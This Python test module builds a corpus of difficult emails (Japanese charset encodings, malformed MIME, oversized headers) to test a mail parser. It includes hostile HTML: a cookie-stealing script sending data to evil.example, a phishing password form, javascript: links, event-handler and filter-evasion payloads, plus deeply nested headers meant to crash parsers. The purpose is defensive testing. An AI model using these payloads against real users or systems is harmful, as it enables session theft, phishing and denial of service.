"""A corpus of difficult messages, built in code (the 20 MB one is never a file): Japanese
charsets as real mailers write them, broken structure, hostile HTML and headers, bulk flags.

    from tests.mail.corpus import CORPUS, EXPECTED   # name -> raw bytes (CRLF), name -> facts

`CORPUS` is built on first use and cached (`corpus()`), so importing this module is free. The
sync tests append the same messages to a real IMAP server; `EXPECTED` says what parse() must
read from each (decoded Japanese strings exactly), for any test to check.
"""

from __future__ import annotations

import base64
import hashlib
import quopri
import urllib.parse
from functools import cache

# The characters Python's ISO-2022-JP codecs lose: NEC row 13 (①, ㈱) and the IBM extensions
# (髙, 﨑) that Windows puts in every other business letter.
EXT = "①㈱髙﨑"
SUBJECT = "【御見積】①㈱髙橋工業様 﨑山の件"
NAME = "髙橋 太郎"
BODY = "髙橋様\n\n㈱山田商事の﨑山です。\n①御見積書を添付いたします。\n②納期は来週です。\n"
FILENAME = "①御見積書_㈱髙橋.pdf"
PDF = b"%PDF-1.4\n% Kizuna test attachment\n%%EOF\n"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
BIG_SIZE = 20 * 1024 * 1024


# --- encoders as real mailers write (cp932 through JIS escapes: Outlook's cp50220) ----------

def encode_jis(text: str) -> bytes:
    """ISO-2022-JP of `text` as Windows writes it: cp932 characters (row 13, IBM extensions
    included) as JIS X 0208 pairs between ESC $ B and ESC ( B."""
    out = bytearray()
    double = False
    for char in text:
        if ord(char) < 0x80:
            if double:
                out += b"\x1b(B"
                double = False
            out += char.encode()
            continue
        s1, s2 = char.encode("cp932")
        if not double:
            out += b"\x1b$B"
            double = True
        out += bytes(_jis_pair(s1, s2))
    if double:
        out += b"\x1b(B"
    return bytes(out)


def _jis_pair(s1: int, s2: int) -> tuple[int, int]:
    row = (s1 - (0x70 if s1 < 0xA0 else 0xB0)) * 2
    if s2 < 0x9F:
        return row - 1, s2 - (0x1F if s2 < 0x7F else 0x20)
    return row, s2 - 0x7E


def encode_cp51932(text: str) -> bytes:
    """EUC-JP as Windows writes it (cp51932): the JIS pairs of cp932 with the high bit set."""
    out = bytearray()
    for char in text:
        if ord(char) < 0x80:
            out += char.encode()
        else:
            out += bytes(b | 0x80 for b in _jis_pair(*char.encode("cp932")))
    return bytes(out)


def b_word(data: bytes, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(data).decode()}?="


def q_word(data: bytes, charset: str) -> str:
    """RFC 2047 Q: in a phrase only letters, digits and !*+-/ stay as they are (section 5)."""
    safe = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!*+-/"
    text = "".join("_" if b == 0x20 else chr(b) if b in safe else f"={b:02X}" for b in data)
    return f"=?{charset}?Q?{text}?="


def rfc2231(data: bytes, charset: str) -> str:
    return f"{charset}''{urllib.parse.quote(data, safe='')}"


def crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _message(headers: str | bytes, body: bytes, *, message_id: str | None = "auto", name: str = "") -> bytes:
    head = headers.encode() if isinstance(headers, str) else headers
    if message_id == "auto":
        message_id = f"<{name or hashlib.sha1(head + body).hexdigest()[:12]}@corpus.kizuna.example>"
    if message_id:
        head = b"Message-ID: " + message_id.encode() + b"\n" + head
    return crlf(head.rstrip(b"\n") + b"\n\n" + body)


DATE = "Date: Tue, 02 Jan 2024 10:00:00 +0900\n"
TO = "To: sato@kizuna.example\n"


# --- the messages ----------------------------------------------------------------------------

def _shift_jis() -> bytes:
    return _message(
        f"From: {b_word(NAME.encode('cp932'), 'Shift_JIS')} <Takahashi@Takahashi.example>\n{TO}{DATE}"
        f"Subject: {b_word(SUBJECT.encode('cp932'), 'Shift_JIS')}\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=Shift_JIS\nContent-Transfer-Encoding: 8bit\n",
        BODY.encode("cp932"), name="shift-jis")


def _x_sjis() -> bytes:
    return _message(
        f"From: {q_word(NAME.encode('cp932'), 'x-sjis')} <takahashi@takahashi.example>\n{TO}{DATE}"
        f"Subject: {q_word(SUBJECT.encode('cp932'), 'x-sjis')}\nMIME-Version: 1.0\n"
        'Content-Type: text/plain; charset="x-sjis"\nContent-Transfer-Encoding: base64\n',
        base64.encodebytes(BODY.encode("cp932")), name="x-sjis")


def _iso_2022_jp() -> bytes:
    subject = encode_jis(SUBJECT)
    half = len(subject) // 2 + 1  # split mid-sequence, as some mailers do: the words join first
    second_name = encode_jis("㈱髙橋_明細①.pdf")
    return _message(
        f"From: {q_word(encode_jis(NAME), 'ISO-2022-JP')} <takahashi@takahashi.example>\n{TO}{DATE}"
        f"Subject: {b_word(subject[:half], 'ISO-2022-JP')}\n {b_word(subject[half:], 'iso-2022-jp')}\n"
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=_kz_1"\n',
        b"--=_kz_1\nContent-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"
        + encode_jis(BODY) + b"\n--=_kz_1\nContent-Type: application/pdf\n"
        + f"Content-Disposition: attachment;\n filename*={rfc2231(encode_jis(FILENAME), 'iso-2022-jp')}\n".encode()
        + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF)
        + b"--=_kz_1\nContent-Type: application/pdf\nContent-Disposition: attachment;\n"
        + f" filename*0*={rfc2231(second_name[:9], 'ISO-2022-JP')};\n".encode()
        + f" filename*1*={urllib.parse.quote(second_name[9:], safe='')}\n".encode()
        + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF) + b"--=_kz_1--\n",
        name="iso-2022-jp")


def _jis_unlabelled() -> bytes:
    return _message(
        b"From: takahashi@takahashi.example\n" + TO.encode() + DATE.encode()
        + b"Subject: " + encode_jis(SUBJECT) + b"\nMIME-Version: 1.0\nContent-Type: text/plain\n",
        encode_jis(BODY), name="jis-unlabelled")


def _utf8_as_jis() -> bytes:
    return _message(
        f"From: takahashi@takahashi.example\n{TO}{DATE}Subject: {b_word(SUBJECT.encode(), 'ISO-2022-JP')}\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=iso-2022-jp\nContent-Transfer-Encoding: 8bit\n",
        BODY.encode(), name="utf8-as-jis")


def _euc_jp() -> bytes:
    return _message(
        f"From: takahashi@takahashi.example\n{TO}{DATE}Subject: {b_word(encode_cp51932(SUBJECT), 'EUC-JP')}\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=EUC-JP\nContent-Transfer-Encoding: 8bit\n",
        encode_cp51932(BODY), name="euc-jp")


NESTED_HTML = '<p>御見積書です。<img src="cid:logo@kizuna.example" alt="logo"></p>'


def _nested() -> bytes:
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: nested\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="mixed"\n',
        b'--mixed\nContent-Type: multipart/alternative; boundary="alt"\n\n'
        b"--alt\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes("御見積書です。".encode())
        + b'--alt\nContent-Type: multipart/related; boundary="rel"\n\n'
        b"--rel\nContent-Type: text/html; charset=utf-8\n\n" + NESTED_HTML.encode() + b"\n"
        b"--rel\nContent-Type: image/png\nContent-ID: <logo@kizuna.example>\nContent-Disposition: inline\n"
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PNG) + b"--rel--\n--alt--\n"
        b'--mixed\nContent-Type: application/pdf; name="estimate.pdf"\nContent-Disposition: attachment\n'
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF) + b"--mixed--\n",
        name="nested")


def _broken_headers() -> bytes:
    return _message(
        b"From: " + "髙橋".encode("cp932") + b" <takahashi@takahashi.example>\n" + TO.encode()
        + b"this line has no colon at all\n" + DATE.encode()
        + b"X-Garbage: \xff\xfe\x80\x81 binary\n" + b"Subject: " + SUBJECT.encode() + b"\n"
        + b"another line without a name\nContent-Type: text/plain; charset=utf-8\n",
        "本文は読めます。\n".encode(), name="broken-headers")


def _truncated_base64() -> bytes:
    encoded = base64.encodebytes(PDF * 40)
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: truncated\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain; charset=utf-8\n\n" + "添付が途中で切れています。".encode()
        + b'\n--b\nContent-Type: application/pdf; name="cut.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + encoded[: len(encoded) // 2 + 3] + b"\n", name="truncated-base64")


def _wrong_boundary() -> bytes:
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: wrong boundary\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="declared"\n',
        b"--actual\nContent-Type: text/plain; charset=utf-8\n\n" + "境界が違います。".encode()
        + b'\n--actual\nContent-Type: application/pdf; name="a.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + base64.encodebytes(PDF) + b"--actual--\n", name="wrong-boundary")


def _missing_final_boundary() -> bytes:
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: no final boundary\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain; charset=utf-8\n\n" + "最後の境界がありません。".encode()
        + b'\n--b\nContent-Type: application/pdf; name="a.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + base64.encodebytes(PDF), name="missing-final-boundary")


def _plain(subject: str, body: str, *, extra: str = "", message_id: str | None = "auto", sender: str = "yamada@yamada.example") -> bytes:
    return _message(
        f"From: {sender}\n{TO}{DATE}Subject: {subject}\n{extra}MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n",
        body.encode(), message_id=message_id, name=subject.replace(" ", "-").lower())


HOSTILE_HTML = """<html><head><title>Hidden title</title><style>body { display: none }</style>
<script>document.location='https://evil.example/?'+document.cookie</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="steal()"><p onclick="steal()" style="color: red; position: fixed; background-image: url(https://evil.example/bg)">請求書をご確認ください</p>
<a href="javascript:alert(1)">link1</a> <a href=" JaVaScRiPt:alert(2)">link2</a> <a href="https://ok.example/">正規のリンク</a>
<form action="https://evil.example/login" method="post"><input name="password" type="password"><button>送信</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<svg onload="alert(3)"><script>alert(4)</script></svg><img src="x" onerror="alert(5)">
<img src="https://tracker.example/open.gif?id=123" width="1" height="1" alt="">
<SCRIPT>alert(6)</SCRIPT><scr<script>ipt>alert(7)</scr</script>ipt>
</body></html>"""


def _html_hostile() -> bytes:
    return _message(
        f"From: billing@evil.example\n{TO}{DATE}Subject: invoice\nMIME-Version: 1.0\n"
        "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n",
        quopri.encodestring(HOSTILE_HTML.encode()), name="html-hostile")


def _iso_2022_jp_q() -> bytes:
    return _message(
        f"From: takahashi@takahashi.example\n{TO}{DATE}Subject: {q_word(encode_jis(SUBJECT), 'ISO-2022-JP')}\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n",
        encode_jis(BODY), name="iso-2022-jp-q")


def _raw_8bit_filenames() -> bytes:
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: raw file names\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain; charset=utf-8\n\nsee attachments\n--b\nContent-Type: application/pdf\n"
        b'Content-Disposition: attachment; filename="' + FILENAME.encode("cp932") + b'"\n'
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF)
        + b'--b\nContent-Type: application/pdf; name="' + "見積書②.pdf".encode() + b'"\n'
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF) + b"--b--\n", name="raw-8bit-filenames")


def _html_meta_trap() -> bytes:
    # html5ever (nh3 0.3.7) panics on this meta: a Rust panic is a BaseException in Python
    html = '<html><head><meta http-equiv="Content-Type" content="text/html; charset"></head><body><p>本文</p></body></html>'
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: meta trap\nMIME-Version: 1.0\n"
        "Content-Type: text/html; charset=utf-8\n", html.encode(), name="html-meta-trap")


def _html_only_sjis() -> bytes:
    html = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head>' \
           f"<body><p>{BODY.splitlines()[0]}</p><div>{BODY.splitlines()[2]}</div></body></html>"
    return _message(
        f"From: takahashi@takahashi.example\n{TO}{DATE}Subject: html only\nMIME-Version: 1.0\n"
        "Content-Type: text/html\nContent-Transfer-Encoding: 8bit\n", html.encode("cp932"),
        name="html-only")


def _huge_header() -> bytes:
    filler = "".join(f"Received: from relay{i}.example by relay{i + 1}.example; Tue, 2 Jan 2024 10:00:00 +0900\n"
                     for i in range(20000))  # ~1.7 MB before the fields that matter
    return _message(
        filler + f"X-Long: {'x' * 300_000}\nFrom: yamada@yamada.example\n{TO}{DATE}Subject: huge header\n"
        "Content-Type: text/plain; charset=utf-8\n", "本文\n".encode(), name="huge-header")


def _header_trap() -> bytes:
    words = " ".join(["=?UTF-8?B?44GC?="] * 20000)  # 20,000 encoded words, each "あ"
    comment = "(" * 5000 + "deep" + ")" * 5000  # comments nested 5,000 deep: a recursive parser dies
    many = ", ".join(f"user{i}@many.example" for i in range(5000))
    references = " ".join(f"<ref{i}@thread.example>" for i in range(300))
    return _message(
        f"From: {comment} Yamada <yamada@yamada.example> {comment}\nTo: {many}\n{DATE}Subject: {words}\n"
        f"References: {references}\nContent-Type: text/plain; charset=utf-8\n", b"trap\n", name="header-trap")


def _big_attachment() -> bytes:
    block = hashlib.sha256(b"kizuna").digest() * 2048  # 64 KiB, repeated: no randomness needed
    data = (block * (BIG_SIZE // len(block) + 1))[:BIG_SIZE]
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: big\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="big"\n',
        b"--big\nContent-Type: text/plain; charset=utf-8\n\n20 MB\n--big\n"
        b'Content-Type: application/octet-stream; name="big.bin"\nContent-Transfer-Encoding: base64\n\n'
        + base64.encodebytes(data) + b"--big--\n", name="big-attachment")


def big_attachment_sha256() -> str:
    block = hashlib.sha256(b"kizuna").digest() * 2048
    return hashlib.sha256((block * (BIG_SIZE // len(block) + 1))[:BIG_SIZE]).hexdigest()


def _rfc2047_filename() -> bytes:
    return _message(
        f"From: yamada@yamada.example\n{TO}{DATE}Subject: rfc2047 filename\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n',
        b"--b\nContent-Type: text/plain; charset=utf-8\n\nsee attachment\n--b\n"
        + f'Content-Type: application/pdf; name="{b_word(encode_jis(FILENAME), "ISO-2022-JP")}"\n'.encode()
        + b"Content-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(PDF) + b"--b--\n", name="rfc2047-filename")


def _deep_nesting() -> bytes:
    body = b"Content-Type: text/plain\n\nleaf\n"
    for i in range(3000):
        body = b'Content-Type: multipart/mixed; boundary="n%d"\n\n--n%d\n' % (i, i) + body + b"\n--n%d--\n" % i
    return _message(f"From: yamada@yamada.example\n{TO}{DATE}Subject: deep\n".encode() + body.split(b"\n\n", 1)[0],
                    body.split(b"\n\n", 1)[1], name="deep-nesting")


@cache
def corpus() -> dict[str, bytes]:
    return {
        "shift_jis": _shift_jis(),
        "x_sjis": _x_sjis(),
        "iso_2022_jp": _iso_2022_jp(),
        "iso_2022_jp_q": _iso_2022_jp_q(),
        "raw_8bit_filenames": _raw_8bit_filenames(),
        "html_meta_trap": _html_meta_trap(),
        "jis_unlabelled": _jis_unlabelled(),
        "utf8_as_jis": _utf8_as_jis(),
        "euc_jp": _euc_jp(),
        "nested": _nested(),
        "broken_headers": _broken_headers(),
        "truncated_base64": _truncated_base64(),
        "wrong_boundary": _wrong_boundary(),
        "missing_final_boundary": _missing_final_boundary(),
        "no_message_id": _plain("no id", "Message-ID がありません。", message_id=None),
        "duplicate_id_1": _plain("first of two", "一通目", message_id="<same@dup.example>"),
        "duplicate_id_2": _plain("second of two", "二通目", message_id="<same@dup.example>"),
        "html_hostile": _html_hostile(),
        "html_only": _html_only_sjis(),
        "huge_header": _huge_header(),
        "header_trap": _header_trap(),
        "big_attachment": _big_attachment(),
        "unquoted_comma": _plain("unquoted", "本文", sender="Yamada, Taro <t@x.example>"),
        "bulk_list_id": _plain("newsletter", "配信", extra="List-Id: News <news.list.example>\n"),
        "bulk_auto_submitted": _plain("out of office", "不在", extra="Auto-Submitted: auto-replied\n"),
        "bulk_precedence": _plain("bulk", "一斉", extra="Precedence: bulk\n"),
        "auto_submitted_no": _plain("personal", "個人", extra="Auto-Submitted: no\n"),
        "rfc2047_filename": _rfc2047_filename(),
        "deep_nesting": _deep_nesting(),
    }


# What parse() must read from each message (the keys a test checks; absent keys: anything).
EXPECTED: dict[str, dict] = {
    "shift_jis": {"subject": SUBJECT, "sender": ("髙橋 太郎", "takahashi@takahashi.example"), "text": BODY.strip()},
    "x_sjis": {"subject": SUBJECT, "sender": ("髙橋 太郎", "takahashi@takahashi.example"), "text": BODY.strip()},
    "iso_2022_jp": {"subject": SUBJECT, "sender": ("髙橋 太郎", "takahashi@takahashi.example"), "text": BODY.strip(),
                    "attachments": [FILENAME, "㈱髙橋_明細①.pdf"], "malformed": False},
    "iso_2022_jp_q": {"subject": SUBJECT, "text": BODY.strip(), "malformed": False},
    "raw_8bit_filenames": {"attachments": [FILENAME, "見積書②.pdf"]},
    "html_meta_trap": {"text": "本文", "html": "<p>本文</p>"},
    "jis_unlabelled": {"subject": SUBJECT, "text": BODY.strip()},
    "utf8_as_jis": {"subject": SUBJECT, "text": BODY.strip()},
    "euc_jp": {"subject": SUBJECT, "text": BODY.strip()},
    "nested": {"text": "御見積書です。", "attachments": ["image-1.png", "estimate.pdf"], "malformed": False},
    "broken_headers": {"subject": SUBJECT, "sender": ("髙橋", "takahashi@takahashi.example"),
                       "text": "本文は読めます。", "malformed": True},
    "truncated_base64": {"text": "添付が途中で切れています。", "attachments": ["cut.pdf"], "malformed": True},
    "wrong_boundary": {"text": "境界が違います。", "attachments": ["a.pdf"], "malformed": True},
    "missing_final_boundary": {"text": "最後の境界がありません。", "attachments": ["a.pdf"], "malformed": True},
    "no_message_id": {"message_id": "", "text": "Message-ID がありません。"},
    "duplicate_id_1": {"message_id": "same@dup.example", "text": "一通目"},
    "duplicate_id_2": {"message_id": "same@dup.example", "text": "二通目"},
    "html_hostile": {"text_contains": "請求書をご確認ください"},
    "html_only": {"text": "髙橋様\n㈱山田商事の﨑山です。"},
    "huge_header": {"subject": "huge header", "sender": ("", "yamada@yamada.example"), "malformed": True},
    # the Subject field is cut at its bound (16 KiB: ~960 words); what is read is right
    "header_trap": {"sender": ("Yamada", "yamada@yamada.example"), "subject_is": "あ", "malformed": True},
    "big_attachment": {"attachments": ["big.bin"]},
    "unquoted_comma": {"sender": ("Yamada, Taro", "t@x.example")},
    "bulk_list_id": {"is_bulk": True},
    "bulk_auto_submitted": {"is_bulk": True},
    "bulk_precedence": {"is_bulk": True},
    "auto_submitted_no": {"is_bulk": False},
    "rfc2047_filename": {"attachments": [FILENAME]},
    "deep_nesting": {"malformed": True},
}


def __getattr__(name: str) -> dict[str, bytes]:
    if name == "CORPUS":  # built on first use: the big messages cost a second or so
        return corpus()
    raise AttributeError(name)
